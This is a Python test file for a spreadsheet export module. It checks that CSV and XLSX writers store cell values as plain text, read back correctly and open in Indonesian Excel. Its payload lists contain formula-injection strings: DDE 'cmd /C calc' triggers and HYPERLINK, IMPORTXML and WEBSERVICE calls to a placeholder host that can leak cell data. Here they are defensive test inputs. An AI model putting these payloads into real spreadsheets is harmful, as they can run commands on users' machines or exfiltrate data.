"""Tables to take away: what was text stays text, and our own reader reads it back the same."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intake.encodings import clean
from intake.reading import read
from intake.writing import write_csv, write_xlsx

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\n=",
    "'=",
    "''@",
    " =",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "'",
    "\t",
    "=+",
    "-@",
    "\u00a0=",
    "@@",
)
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://contoh.example?x="&A1;"Klik")',
    "SUM(1;2)*cmd|' /C calc'!A0",
    'IMPORTXML("http://contoh.example";"//a")',
    "6281200000000",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1:A9",
    'WEBSERVICE("http://contoh.example")',
    '_x0041_; "kutip"\nbaris dua',
)
PAYLOADS = sorted({start + body for start, body in product(STARTS, BODIES)})
WRITERS = pytest.mark.parametrize("write", [write_csv, write_xlsx])


def same(payload: str) -> str:
    """What is read back: the same, but for no-break spaces."""
    return payload.replace("\u00a0", " ")


@WRITERS
def test_two_hundred_formula_payloads_stay_text_and_read_back_the_same(write):
    assert len(PAYLOADS) >= 200
    written = write(["kode", "isi"], [[str(number), payload] for number, payload in enumerate(PAYLOADS)])

    rows = read(written)

    assert [row.cells["isi"] for row in rows] == [same(payload) for payload in PAYLOADS]


def test_no_cell_of_the_csv_begins_with_what_a_spreadsheet_runs():
    written = write_csv(["isi", "=judul"], [[payload, "x"] for payload in PAYLOADS])

    cells = [cell for record in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=";")
             for cell in record]  # fmt: skip

    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
    assert cells[1] == "'=judul"


def test_no_cell_of_the_workbook_is_a_formula():
    written = write_xlsx(["isi"], [[payload] for payload in PAYLOADS])

    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet
    assert sheet.count('t="inlineStr"') == len(PAYLOADS) + 1


@WRITERS
def test_numbers_days_and_empty_cells_are_read_back_as_such(write):
    moment = datetime(2026, 12, 5, 8, 30, tzinfo=UTC)
    row = [7, -5, 2.5, True, date(2026, 12, 5), moment, None, 3_374_000_000_000_001, "0812"]
    headers = ["int", "negative", "half", "yes", "day", "moment", "none", "long", "zeros"]

    (found,) = read(write(headers, [row]))

    assert found.cells == {
        "int": "7", "negative": "-5", "half": "2,5" if write is write_csv else "2.5", "yes": "true",
        "day": "2026-12-05", "moment": "2026-12-05 08:30+00:00", "none": "", "long": "3374000000000001",
        "zeros": "0812",
    }  # fmt: skip


def test_the_csv_opens_in_indonesian_excel():
    written = write_csv(["nama", "kuota"], [["Pelatihan “Las”", 16]])

    assert written.startswith(b"\xef\xbb\xbf")
    assert written.decode("utf-8-sig") == "nama;kuota\r\nPelatihan “Las”;16\r\n"


def test_wrong_cells_are_coloured():
    plain = write_xlsx(["a", "b"], [["x", "y"], ["z", date(2026, 1, 2)]])
    marked = write_xlsx(["a", "b"], [["x", "y"], ["z", date(2026, 1, 2)]], wrong={(0, 1), (1, 1)})

    assert read(marked) == read(plain)
    assert ("FFFFC7CE" in _styles(marked), "FFFFC7CE" in _styles(plain)) == (True, False)
    assert _sheet(marked) != _sheet(plain)


@WRITERS
@given(text=st.text(max_size=60))
def test_whatever_is_written_is_read_back_as_the_reader_would_read_it(write, text):
    rows = read(write(["kode", "isi"], [["1", text]]))

    assert rows[0].cells["isi"].strip() == clean(text)


def _styles(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/styles.xml").decode()


def _sheet(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()
